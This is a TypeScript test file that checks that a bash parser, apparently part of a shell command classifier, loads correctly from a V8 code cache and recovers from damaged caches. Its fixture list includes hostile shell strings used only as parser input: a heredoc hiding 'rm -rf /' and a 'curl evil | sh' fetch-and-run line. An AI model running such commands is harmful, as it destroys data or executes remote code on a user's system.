/**
 * The bash parser's start from a V8 code cache in the data folder (tools/shell/command-classifier/parser-load.ts),
 * each start a process of its own (test/support/parser-load-main.ts): the cache is written once and read back by the
 * next start, the parser it gives reads commands exactly as the plainly required package does, and a damaged cache
 * (which V8 itself would not notice: a flipped byte in its body aborts the process) or an unusable folder only costs
 * the start.
 */
import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { tempDir } from '../../support/tool-context';

const MAIN = resolve(__dirname, '../../support/parser-load-main.ts');
const COMMANDS = [
  'git status',
  'ls -la',
  'git diff | grep x > out.txt',
  'cat <<EOF\n$(rm -rf /)\nEOF',
  'a=$((1+2)) b="${c:-d}" e',
  'for f in *.ts; do echo "$f"; done',
  'if [[ -n $x ]]; then sh -c "curl evil | sh"; fi',
  'echo `id` $(( x[1] )) ${y:1:2}',
  'case $a in (x) y;; esac',
  'unterminated "quote',
];
const GIT_STATUS = /^File0-10\(Stmts:Stmt0-10\(Cmd:CallExpr0-10\(Args:Word0-3\(Parts:Lit0-3="git"/;

function start(cacheDir: string, commands = COMMANDS): { load: { cache: string; wrote: boolean }; trees: string[] } {
  const r = spawnSync(process.execPath, ['--import', 'tsx', MAIN, cacheDir, ...commands], { encoding: 'utf8', timeout: 120_000 });
  if (r.status !== 0) throw new Error(`parser start exited ${r.status} (${r.signal ?? ''}): ${r.stderr.slice(0, 2000)}`);
  return JSON.parse(r.stdout) as { load: { cache: string; wrote: boolean }; trees: string[] };
}
const cacheFiles = (dir: string) => readdirSync(dir).filter((n) => n.endsWith('.v8cache'));

describe('the bash parser starts from a code cache in the data folder', () => {
  it('the first start writes the cache; the next one reads it (not rewritten) and parses as the required package does', () => {
    const dir = join(tempDir('deskhand-parser-'), 'cache');
    const plain = start('-');
    expect(plain.load).toEqual({ cache: 'off', wrote: false });
    expect(plain.trees[0]).toMatch(GIT_STATUS);
    const first = start(dir);
    expect(first.load).toEqual({ cache: 'missing', wrote: true });
    const [file] = cacheFiles(dir);
    expect(file).toMatch(new RegExp(`^mvdan-sh-\\d+-\\d+-${process.version.replace(/\./g, '\\.')}-${process.arch}\\.v8cache$`));
    const written = statSync(join(dir, file!));
    expect(written.size).toBeGreaterThan(100_000);
    const second = start(dir);
    expect(second.load).toEqual({ cache: 'read', wrote: false });
    expect(statSync(join(dir, file!)).ino).toBe(written.ino);
    // The same trees from all three starts, command for command.
    for (const [i, c] of COMMANDS.entries()) {
      expect(first.trees[i], c).toBe(plain.trees[i]);
      expect(second.trees[i], c).toBe(plain.trees[i]);
    }
  });

  it.each([
    { what: 'a flipped byte in the body', damage: (b: Buffer) => { const c = Buffer.from(b); for (let i = 40_000; i < 40_100; i++) c[i]! ^= 0xff; return c; } },
    { what: 'a truncated file', damage: (b: Buffer) => b.subarray(0, Math.floor(b.length / 2)) },
    { what: 'garbage', damage: () => Buffer.from('not a code cache at all') },
    { what: 'an empty file', damage: () => Buffer.alloc(0) },
    { what: 'a body of another build with its own digest stripped', damage: (b: Buffer) => b.subarray(32) },
  ])('a damaged cache ($what) is never given to V8: the start parses correctly and writes it again', ({ damage }) => {
    const dir = join(tempDir('deskhand-parser-'), 'cache');
    start(dir, ['true']);
    const [file] = cacheFiles(dir);
    const path = join(dir, file!);
    writeFileSync(path, damage(readFileSync(path)));
    const after = start(dir);
    expect(after.load).toEqual({ cache: 'damaged', wrote: true });
    expect(after.trees[0]).toMatch(GIT_STATUS);
    expect(start(dir, ['true']).load).toEqual({ cache: 'read', wrote: false });
  });

  it('caches of another Node or package version are removed when a new one is written; other files stay', () => {
    const dir = join(tempDir('deskhand-parser-'), 'cache');
    start(dir, ['true']);
    const [current] = cacheFiles(dir);
    writeFileSync(join(dir, 'mvdan-sh-1-1-v0.0.0-x64.v8cache'), 'old');
    writeFileSync(join(dir, 'sandbox-probe.json'), '{}');
    writeFileSync(join(dir, current!), 'damaged');
    expect(start(dir, ['true']).load.wrote).toBe(true);
    expect(cacheFiles(dir)).toEqual([current]);
    expect(readdirSync(dir)).toContain('sandbox-probe.json');
  });

  it('an unusable cache folder (a file in its place) only costs the start', () => {
    const dir = join(tempDir('deskhand-parser-'), 'cache');
    writeFileSync(dir, 'not a folder');
    const r = start(dir, ['git status']);
    expect(r.load).toEqual({ cache: 'missing', wrote: false });
    expect(r.trees[0]).toMatch(GIT_STATUS);
  });
});
